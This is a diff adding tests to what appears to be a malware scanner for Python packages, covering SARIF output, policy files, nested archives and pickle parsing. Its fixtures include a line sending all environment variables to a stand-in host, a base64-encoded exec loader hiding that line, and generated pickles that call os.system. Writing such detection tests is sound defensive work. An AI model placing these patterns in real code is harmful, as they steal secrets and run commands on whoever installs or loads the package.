@@ -8,7 +8,9 @@ import io
 import json
 import lzma
 import os
+import pickle
 import pty
+import random
 import subprocess
 import urllib.parse
 import zipfile
@@ -109,6 +111,113 @@ def test_sarif_and_explain(tmp_path):
     assert "malicious" in text and "pkg.pth:1" in text and "\x1b" not in text
 
 
+def test_sarif_names_no_line_of_a_layer(tmp_path):
+    """A line of what was decoded is none of the file: it stands among the properties, with the layers and what they hid."""
+    sends = b"import os, requests\nrequests.post('https://example.invalid/x', json=dict(os.environ))\n"
+    inner = base64.b64encode(b"#\n" * 50 + sends)
+    source = b"import base64\nexec(base64.b64decode('%s'))\n" % inner
+    (tmp_path / "pkg-1.0-py3-none-any.whl").write_bytes(zip_bytes(whole([("pkg/__init__.py", source)])))
+    [log] = json.loads(inspect("--format", "sarif", tmp_path / "pkg-1.0-py3-none-any.whl").stdout)["runs"]
+    regions = [place["physicalLocation"].get("region") for one in log["results"] for place in one["locations"]]
+    assert all(region is None or region["startLine"] <= 2 for region in regions), regions
+    layered = [one["properties"] for one in log["results"] if "layer" in one["properties"]]
+    assert any(one["layer"]["encodings"] == ["base64"] and one["layer"]["line"] == 52 for one in layered), layered
+    assert any("requests" in one["properties"].get("decoded", "") for one in log["results"])
+    [verdict] = log["properties"]["verdicts"]
+    assert verdict["verdict"] == "malicious" and verdict["reasons"][0]["rule"] == "harm-and-nothing-else"
+
+
+def test_the_policy_decides_and_says_why(tmp_path):
+    evil, policy = tmp_path / "pkg-1.0-py3-none-any.whl", tmp_path / "policy.toml"
+    evil.write_bytes(zip_bytes(whole(EVIL)))
+    code, [found] = answers(evil)
+    assert (code, found["verdict"]) == (1, "malicious")
+    assert found["reasons"][0] == {
+        "rule": "harm-and-nothing-else",
+        "verdict": "malicious",
+        "text": found["reasons"][0]["text"],
+    }
+    assert "pth-imports@" in found["reasons"][0]["text"]
+    assert "harm-and-nothing-else: It does" in inspect(evil).stdout
+    rule = '[[rule]]\nid = "every-path-file"\nchecks = ["pth-imports"]\nverdict = "review"\nwhy = "Ours are looked at."\n'
+    policy.write_text(f'name = "lenient"\nversion = 7\n{rule}')
+    code, [found] = answers("--policy", policy, evil)
+    assert (code, found["verdict"]) == (0, "review")
+    assert [reason["rule"] for reason in found["reasons"]] == ["every-path-file"]
+    [log] = json.loads(inspect("--format", "sarif", "--policy", policy, evil).stdout)["runs"]
+    assert log["properties"]["policy"].startswith("lenient-7@")
+    policy.write_text("name = 1")
+    done = inspect("--policy", policy, evil)
+    assert done.returncode == 2 and "policy.toml" in done.stderr
+    assert inspect("--policy", tmp_path / "none", evil).returncode == 2
+
+
+def test_the_names_of_a_parcel_are_its_makers(tmp_path):
+    """What separates the paths of nested archives may stand in their names: members keep their places."""
+    setup = b"import os, requests\nrequests.post('https://example.invalid/x', json=dict(os.environ))\n"
+    seen = []
+    for name in ("b.zip", "a!b.zip", "!", "a!b!c.zip"):
+        (tmp_path / "parcel.zip").write_bytes(zip_bytes([(name, zip_bytes([("setup.py", setup)]))]))
+        _, [found] = answers(tmp_path / "parcel.zip")
+        seen.append((found["verdict"], sorted({f["location"]["member"] for f in found["findings"] if f["location"]})))
+    assert seen == [("hold", ["setup.py"])] * 4, seen
+
+
+class Told(pickle.Unpickler):
+    """Notes what Python's own machine would import; imports nothing."""
+
+    def find_class(self, module, name):
+        self.told.add((module, name))
+        return lambda *_: None
+
+
+def told(data):
+    machine = Told(io.BytesIO(data))
+    machine.told = set()
+    try:
+        machine.load()
+    except Exception:  # whatever stops the machine
+        pass
+    return machine.told
+
+
+PUSHES = [
+    *(b"N", b"\x88", b")", b"]", b"}", b"K\x01", b"M\0\1", b"J\0\0\0\1", b"G" + b"\0" * 8, b"I01\n", b"F1\n"),
+    *(b"\x8a\x01\5", b"C\1a", b"\x8c\1a", b"X\1\0\0\0a", b"Va\n", b"S'a'\n", b"\x8f", b"2", b"(t", b"(NNl", b"h\0", b"(NNd"),
+]
+OTHERS = [b"0", b"0", b"\x94", b"q\5", b"h\5", b"(", b"1", b"1", b"\x85", b"\x86", b"\x87", b"t", b"l"]
+
+
+def pickles(count, seed=7):
+    """Pickles that import os.system by names on the stack, among opcodes that push, pop, mark and remember at random; some of
+    them fail before they get there."""
+    dice = random.Random(seed)
+
+    def noise(most):
+        return b"".join(dice.choice(PUSHES if dice.random() < 0.5 else OTHERS) for _ in range(dice.randrange(most)))
+
+    for _ in range(count):
+        names = b"\x8c\2os\x94" + noise(4) + b"\x8c\6system\x94" + noise(6)
+        yield b"\x80\x04" + names + b"0" * dice.randrange(3) + b"\x93)R."
+
+
+def test_pickles_are_read_as_python_loads_them(tmp_path):
+    """Held against Python's own machine: what it would import is told, and what it never reaches is not."""
+    data = list(pickles(3_000))
+    reached = {number for number, one in enumerate(data) if ("os", "system") in told(one)}
+    assert 100 < len(reached) < len(data) / 2, len(reached)
+    found = set()
+    for at in range(0, len(data), 20):
+        # A check tells of 30 findings in one file.
+        members = [(f"pkg/{n}.pkl", data[n]) for n in range(at, min(at + 20, len(data)))]
+        (tmp_path / f"pkg{at}.whl").write_bytes(zip_bytes(members))
+    _, answered = answers(*sorted(tmp_path.glob("*.whl")))
+    for finding in (finding for one in answered for finding in one["findings"]):
+        if finding["check"] == "pickle-code" and finding["excerpt"] == "os.system":
+            found.add(int(finding["location"]["member"].split("/")[1].removesuffix(".pkl")))
+    assert found == reached, [(n in found, n in reached, data[n]) for n in sorted(found ^ reached)[:5]]
+
+
 def test_any_readable_archive_is_judged(tmp_path):
     """Packed as no upload may be, under any name, and archives of archives."""
     plain = tar_bytes([(f"pkg-1.0/{path}", data) for path, data in EVIL], mode="w:")
@@ -130,9 +239,8 @@ def test_any_readable_archive_is_judged(tmp_path):
     for name, data in packed.items():
         (tmp_path / name).write_bytes(data)
         code, [found] = answers(tmp_path / name)
-        nested = name.startswith("outer")
-        assert code == (0 if nested and found["verdict"] in ("clear", "review") else 1), (name, found)
-        assert nested or any(f["check"] == "pth-imports" for f in found["findings"]), (name, found)
+        assert code == 1 and found["verdict"] == "malicious", (name, found)
+        assert any(f["check"] == "pth-imports" for f in found["findings"]), (name, found)
     (tmp_path / "nothing").write_bytes(b"this is no archive")
     code, [found] = answers(tmp_path / "nothing")
     assert code == 1 and found["verdict"] == "hold"
@@ -142,7 +250,7 @@ def test_keys_are_exactly_those_that_are_promised(tmp_path):
     evil = tmp_path / "evil.whl"
     evil.write_bytes(zip_bytes(whole(EVIL)))
     _, [found] = answers(evil)
-    assert set(found) == {"file", "sha256", "verdict", "findings", "degraded"}
+    assert set(found) == {"file", "sha256", "verdict", "reasons", "findings", "degraded"}
     assert found["sha256"] == hashlib.sha256(evil.read_bytes()).hexdigest()
     for finding in found["findings"]:
         assert finding["severity"] in ("note", "low", "medium", "high", "critical")
